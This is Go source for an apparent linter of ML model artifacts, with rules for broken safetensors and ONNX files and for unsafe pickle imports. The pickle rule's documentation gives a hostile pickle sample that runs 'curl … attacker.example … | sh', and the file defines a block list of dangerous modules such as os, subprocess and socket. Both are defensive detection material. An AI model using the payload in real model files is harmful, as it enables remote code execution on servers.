package rules

import (
	"fmt"
	"path"
	"strings"

	"github.com/modellint/modellint/lint"
	"github.com/modellint/modellint/lint/model"
	"github.com/modellint/modellint/lint/model/pickle"
)

var safetensorsInvalid = &lint.Rule{
	ID: "MDL130", Name: "safetensors-invalid", Severity: lint.Error,
	Artifact: lint.ArtifactModel, Needs: []lint.Fact{lint.FactModel},
	Doc: lint.Doc{
		Summary: "A .safetensors header is invalid or does not match the file, or model.safetensors.index.json names a shard or tensor that is not there.",
		Why: "transformers, vLLM, TGI and candle read the 8-byte header length, the JSON header and then map the tensor data; " +
			"the safetensors library refuses a file whose header is too long, not JSON, or whose offsets do not tile the data " +
			"exactly, e.g. " +
			"`safetensors_rust.SafetensorError: Error while deserializing header: HeaderTooLarge` or `safetensors_rust.SafetensorError: Error while deserializing header: MetadataIncompleteBuffer` " +
			"(a Git LFS pointer or an interrupted download). A sharded checkpoint's index maps every tensor to a shard file; a " +
			"missing shard fails from_pretrained and vLLM's loader before the first request. modellint reads only the 8 + N " +
			"header bytes of each file and applies the library's checks; the finding names the library's error.",
		Bad: "models/llm/\n" +
			"  model.safetensors.index.json <<EOF\n" +
			"    {\n" +
			"      \"metadata\": {\"total_size\": 48},\n" +
			"      \"weight_map\": {\n" +
			"        \"model.embed_tokens.weight\": \"model-00001-of-00002.safetensors\",\n" +
			"        \"lm_head.weight\": \"model-00002-of-00002.safetensors\"\n" +
			"      }\n" +
			"    }\n" +
			"  EOF\n" +
			"  model-00001-of-00002.safetensors <<safetensors\n" +
			"    {\"model.embed_tokens.weight\": {\"dtype\": \"BF16\", \"shape\": [8, 2], \"data_offsets\": [0, 32]}}\n" +
			"  safetensors",
		Good: "models/llm/\n" +
			"  model.safetensors.index.json <<EOF\n" +
			"    {\n" +
			"      \"metadata\": {\"total_size\": 48},\n" +
			"      \"weight_map\": {\n" +
			"        \"model.embed_tokens.weight\": \"model-00001-of-00002.safetensors\",\n" +
			"        \"lm_head.weight\": \"model-00002-of-00002.safetensors\"\n" +
			"      }\n" +
			"    }\n" +
			"  EOF\n" +
			"  model-00001-of-00002.safetensors <<safetensors\n" +
			"    {\"model.embed_tokens.weight\": {\"dtype\": \"BF16\", \"shape\": [8, 2], \"data_offsets\": [0, 32]}}\n" +
			"  safetensors\n" +
			"  model-00002-of-00002.safetensors <<safetensors\n" +
			"    {\"lm_head.weight\": {\"dtype\": \"BF16\", \"shape\": [8], \"data_offsets\": [0, 16]}}\n" +
			"  safetensors",
		Fix: "Download the checkpoint again completely (huggingface-cli download, git lfs pull) and copy every shard the index names.",
		References: []string{
			"https://github.com/huggingface/safetensors#format",
			"https://huggingface.co/docs/safetensors/index",
			"https://github.com/huggingface/transformers/issues/27923",
		},
	},
	Check: checkSafetensors,
}

func checkSafetensors(pass *lint.Pass) {
	m := pass.Target.Model
	unread := unreadNamed(m, func(name string) bool {
		return strings.HasSuffix(name, ".safetensors") || strings.HasSuffix(name, ".safetensors.index.json")
	})
	if len(m.Safetensors) == 0 && len(m.SafetensorsIndexes) == 0 {
		pass.Skip("no safetensors header or index to check")
	}
	for _, file := range m.Safetensors {
		if file.Error == "" {
			continue
		}
		name, detail, _ := strings.Cut(file.Error, ": ")
		pass.ReportFilef(m.Path(file.Path),
			"%s is not a loadable safetensors file: %s: the safetensors library fails with \"Error while deserializing header: %s\"; "+
				"download or copy the file again", m.Path(file.Path), detail, name)
	}
	for _, index := range m.SafetensorsIndexes {
		file := m.Path(index.Path)
		if index.Error != "" {
			pass.ReportFilef(file, "%s is not a valid checkpoint index (%s): loaders cannot find the shards; download it again", file, index.Error)
			continue
		}
		for _, shard := range index.MissingShards {
			pass.ReportFilef(file,
				"%s maps tensors to %s, which is not in %s: from_pretrained and vLLM fail to load the checkpoint; copy every shard the index names",
				file, shard, m.Dir)
		}
		if index.MissingTensorCount > 0 {
			pass.ReportFilef(file,
				"%s places %d tensor(s) (%s) in shards whose headers do not have them: loading fails on the first one; "+
					"the index and the shards come from different exports, download them together",
				file, index.MissingTensorCount, strings.Join(index.MissingTensors, ", "))
		}
	}
	skipUnread(pass, m, unread)
}

// unreadNamed returns the files of Model.Unread whose names a rule's
// format has.
func unreadNamed(m *model.Model, named func(name string) bool) []string {
	var unread []string
	for _, rel := range m.Unread {
		if named(path.Base(rel)) {
			unread = append(unread, rel)
		}
	}
	return unread
}

func isONNXName(name string) bool { return strings.HasSuffix(name, ".onnx") }

var onnxExternalDataMissing = &lint.Rule{
	ID: "MDL131", Name: "onnx-external-data-missing", Severity: lint.Error,
	Artifact: lint.ArtifactModel, Needs: []lint.Fact{lint.FactModel},
	Doc: lint.Doc{
		Summary: "An ONNX model references external data files that are missing, shorter than the tensors they hold, or outside the model directory.",
		Why: "Protobuf caps an .onnx file at 2 GiB, so large models keep their weights in external files whose names and offsets " +
			"the model records, relative to the .onnx file's directory. When the .onnx is copied without them (or a path climbs out " +
			"of the model directory, which a container never has), ONNX Runtime fails at session creation, e.g. " +
			"`[ONNXRuntimeError] : 1 : FAIL : Load model from model.onnx failed: ... External data file ... does not exist` " +
			"and Triton reports the model as UNAVAILABLE. Only the model's structure is read; tensor data is skipped.",
		Bad: "models/llm/1/\n" +
			"  model.onnx <<pbtxt\n" +
			"    ir_version: 8\n" +
			"    opset_import { version: 17 }\n" +
			"    graph {\n" +
			"      node { op_type: \"Gather\" input: \"embed.weight\" input: \"input_ids\" output: \"hidden\" }\n" +
			"      initializer {\n" +
			"        name: \"embed.weight\" data_type: FLOAT dims: [4, 2]\n" +
			"        data_location: EXTERNAL\n" +
			"        external_data { key: \"location\" value: \"model.onnx.data\" }\n" +
			"      }\n" +
			"      input { name: \"input_ids\" type { tensor_type { elem_type: INT64 shape { dim { dim_param: \"batch\" } } } } }\n" +
			"      output { name: \"hidden\" type { tensor_type { elem_type: FLOAT } } }\n" +
			"    }\n" +
			"  pbtxt",
		Good: "models/llm/1/\n" +
			"  model.onnx <<pbtxt\n" +
			"    ir_version: 8\n" +
			"    opset_import { version: 17 }\n" +
			"    graph {\n" +
			"      node { op_type: \"Gather\" input: \"embed.weight\" input: \"input_ids\" output: \"hidden\" }\n" +
			"      initializer {\n" +
			"        name: \"embed.weight\" data_type: FLOAT dims: [4, 2]\n" +
			"        data_location: EXTERNAL\n" +
			"        external_data { key: \"location\" value: \"model.onnx.data\" }\n" +
			"      }\n" +
			"      input { name: \"input_ids\" type { tensor_type { elem_type: INT64 shape { dim { dim_param: \"batch\" } } } } }\n" +
			"      output { name: \"hidden\" type { tensor_type { elem_type: FLOAT } } }\n" +
			"    }\n" +
			"  pbtxt\n" +
			"  model.onnx.data <<float32\n" +
			"    0.1 0.2 0.3 0.4 0.5 0.6 0.7 0.8\n" +
			"  float32",
		Fix: "Copy the external data files next to the .onnx file, with the names the model records (onnx.load_model shows them), and keep the locations relative.",
		References: []string{
			"https://onnx.ai/onnx/repo-docs/ExternalData.html",
			"https://onnxruntime.ai/docs/tutorials/web/large-models.html",
		},
	},
	Check: checkONNXExternalData,
}

func checkONNXExternalData(pass *lint.Pass) {
	m := pass.Target.Model
	var coverage lint.Coverage
	for _, file := range m.ONNX {
		if file.Model == nil {
			continue
		}
		coverage.Checked()
		onnxFile := m.Path(file.Path)
		for _, external := range file.External {
			switch {
			case external.Escapes:
				pass.ReportFilef(onnxFile,
					"%s stores %d tensor(s) in %q, outside the model directory: a container that holds only %s cannot open it; "+
						"move the file next to the model and save it with a relative location", onnxFile, external.Tensors, external.Location, m.Dir)
			case !external.Present:
				pass.ReportFilef(m.Path(external.Path),
					"%s stores %d tensor(s) in %s, which is missing: ONNX Runtime fails to create the session; copy it next to the .onnx file",
					onnxFile, external.Tensors, m.Path(external.Path))
			case external.Size < external.Need:
				pass.ReportFilef(m.Path(external.Path),
					"%s is %d bytes but %s reads tensors up to byte %d from it: the file is truncated; copy it again",
					m.Path(external.Path), external.Size, onnxFile, external.Need)
			}
		}
	}
	coverage.SkipIfNone(pass, "no readable ONNX model")
	skipUnread(pass, m, unreadNamed(m, isONNXName))
}

var onnxInvalid = &lint.Rule{
	ID: "MDL132", Name: "onnx-invalid", Severity: lint.Error,
	Artifact: lint.ArtifactModel, Needs: []lint.Fact{lint.FactModel},
	Doc: lint.Doc{
		Summary: "An .onnx file is not a parseable ONNX model.",
		Why: "ONNX Runtime parses the whole ModelProto before anything else; a truncated copy, an error page saved as " +
			"model.onnx (HTML, or the XML S3 answers once a presigned URL has expired, which curl writes without --fail), " +
			"or another format with the .onnx name fails with " +
			"`[ONNXRuntimeError] : 7 : INVALID_PROTOBUF : Load model from model.onnx failed: Protobuf parsing failed.` " +
			"modellint decodes the protobuf structure itself (skipping tensor data) and reports where it stops making sense. " +
			"Empty files and Git LFS pointers are reported by MDL108.",
		Bad: "models/resnet/1/\n" +
			"  model.onnx <<EOF\n" +
			"    <?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" +
			"    <Error><Code>AccessDenied</Code><Message>Request has expired</Message></Error>\n" +
			"  EOF",
		Good: "models/resnet/1/\n" +
			"  model.onnx <<pbtxt\n" +
			"    ir_version: 8\n" +
			"    opset_import { version: 17 }\n" +
			"    graph {\n" +
			"      node { op_type: \"Relu\" input: \"x\" output: \"y\" }\n" +
			"      input { name: \"x\" type { tensor_type { elem_type: FLOAT } } }\n" +
			"      output { name: \"y\" type { tensor_type { elem_type: FLOAT } } }\n" +
			"    }\n" +
			"  pbtxt",
		Fix: "Export or copy the model again and check it with python -c 'import onnx; onnx.checker.check_model(\"model.onnx\")'.",
		References: []string{
			"https://onnx.ai/onnx/repo-docs/IR.html",
			"https://onnxruntime.ai/docs/api/python/api_summary.html",
		},
	},
	Check: checkONNXInvalid,
}

func checkONNXInvalid(pass *lint.Pass) {
	m := pass.Target.Model
	if len(m.ONNX) == 0 {
		pass.Skip("no .onnx files")
	}
	for _, file := range m.ONNX {
		if file.Error != "" {
			pass.ReportFilef(m.Path(file.Path),
				"%s is not a valid ONNX model (%s): ONNX Runtime fails with \"INVALID_PROTOBUF : ... Protobuf parsing failed\"; export or copy it again",
				m.Path(file.Path), file.Error)
		}
	}
	skipUnread(pass, m, unreadNamed(m, isONNXName))
}

var unsafePickle = &lint.Rule{
	ID: "MDL140", Name: "unsafe-pickle", Severity: lint.Warning,
	Artifact: lint.ArtifactModel, Needs: []lint.Fact{lint.FactModel},
	Doc: lint.Doc{
		Summary: "A pickle-based file (.pt, .pth, .bin, .pkl, .joblib) imports dangerous globals: os, subprocess, builtins.eval/exec …",
		Why: "Unpickling runs code: a pickle names globals (module.function) that the unpickler imports and calls. A model file " +
			"that imports os.system, subprocess.Popen, builtins.exec or the like runs that command in the model server when " +
			"torch.load (with weights_only=False), joblib.load or pickle.load opens it — with the pod's service account, network " +
			"and secrets. modellint walks the opcode stream (inside the zip of PyTorch files) without executing anything and lists " +
			"the imports; a global whose name is computed at load time is reported too. A file that could not be scanned to the " +
			"end (joblib appends raw arrays) is reported at info level, so the gap is visible.",
		Bad: "models/iris/\n" +
			"  model-settings.json <<EOF\n" +
			"    {\"name\": \"iris\", \"implementation\": \"mlserver_sklearn.SKLearnModel\"}\n" +
			"  EOF\n" +
			"  model.pkl <<pickle\n" +
			"    PROTO 2\n" +
			"    GLOBAL 'posix system'\n" +
			"    SHORT_BINUNICODE 'curl -s https://attacker.example/x.sh | sh'\n" +
			"    TUPLE1\n" +
			"    REDUCE\n" +
			"    STOP\n" +
			"  pickle",
		Good: "models/iris/\n" +
			"  model-settings.json <<EOF\n" +
			"    {\"name\": \"iris\", \"implementation\": \"mlserver_sklearn.SKLearnModel\"}\n" +
			"  EOF\n" +
			"  model.pkl <<pickle\n" +
			"    PROTO 2\n" +
			"    GLOBAL 'sklearn.linear_model._logistic LogisticRegression'\n" +
			"    EMPTY_TUPLE\n" +
			"    NEWOBJ\n" +
			"    EMPTY_DICT\n" +
			"    SHORT_BINUNICODE 'C'\n" +
			"    BININT1 1\n" +
			"    SETITEM\n" +
			"    BUILD\n" +
			"    STOP\n" +
			"  pickle",
		Fix: "Use safetensors (or ONNX) for weights; load pickles only from trusted sources and with torch.load(weights_only=True).",
		References: []string{
			"https://docs.python.org/3/library/pickle.html#restricting-globals",
			"https://github.com/protectai/modelscan",
			"https://huggingface.co/docs/hub/security-pickle",
		},
	},
	Check: checkUnsafePickle,
}

// dangerousGlobals are modules (every name in them) and module.name pairs
// that give a pickle code execution, file, process or network access
// (after ModelScan's unsafe_globals).
var dangerousGlobals = map[string][]string{
	"__builtin__": {"eval", "compile", "getattr", "apply", "exec", "open", "breakpoint", "__import__", "execfile", "input"},
	"builtins":    {"eval", "compile", "getattr", "apply", "exec", "open", "breakpoint", "__import__", "input"},
	"operator":    {"attrgetter", "methodcaller"},
	"marshal":     {"loads"},
	"types":       {"FunctionType", "CodeType"},
	"runpy":       nil, "os": nil, "nt": nil, "posix": nil, "socket": nil, "subprocess": nil, "sys": nil,
	"pty": nil, "pickle": nil, "_pickle": nil, "shutil": nil, "importlib": nil, "ctypes": nil,
	"webbrowser": nil, "httplib": nil, "http.client": nil, "requests": nil, "aiohttp": nil, "urllib": nil,
	"code": nil, "commands": nil, "multiprocessing": nil, "asyncio": nil, "bdb": nil, "pdb": nil,
}

// dangerous reports whether an import (module.name) is on the list.
func dangerous(global string) bool {
	if strings.Contains(global, pickle.Unknown) {
		return true
	}
	for module, names := range dangerousGlobals {
		rest, ok := strings.CutPrefix(global, module+".")
		if !ok {
			continue
		}
		if names == nil {
			return true
		}
		for _, name := range names {
			if rest == name {
				return true
			}
		}
	}
	return false
}

func checkUnsafePickle(pass *lint.Pass) {
	m := pass.Target.Model
	if len(m.Pickles) == 0 {
		pass.Skip("no pickle-based file to scan")
	}
	for _, file := range m.Pickles {
		name := m.Path(file.Path)
		if file.Scan == nil {
			pass.Report(lint.Diagnostic{Severity: lint.Info, File: name, Message: fmt.Sprintf("%s could not be scanned (%s): what it imports when unpickled is unknown; check where it comes from", name, file.Error)})
			continue
		}
		var bad []string
		for _, global := range file.Scan.Imports {
			if dangerous(global) {
				bad = append(bad, global)
			}
		}
		if len(bad) > 0 {
			pass.ReportFilef(name,
				"%s imports %s when unpickled: torch.load (weights_only=False), joblib.load and pickle.load run that code in the model server; "+
					"convert the weights to safetensors, or load the file only if you trust its source", name, joinAnd(bad))
		}
		if file.Scan.Incomplete != "" {
			pass.Report(lint.Diagnostic{Severity: lint.Info, File: name, Message: fmt.Sprintf("%s was scanned only in part (%s): imports after that point are unknown; prefer safetensors, or check where the file comes from", name, file.Scan.Incomplete)})
		}
	}
	// An unscanned pickle may import anything: the rule cannot pass it.
	skipUnread(pass, m, unreadNamed(m, model.IsPickleName))
}
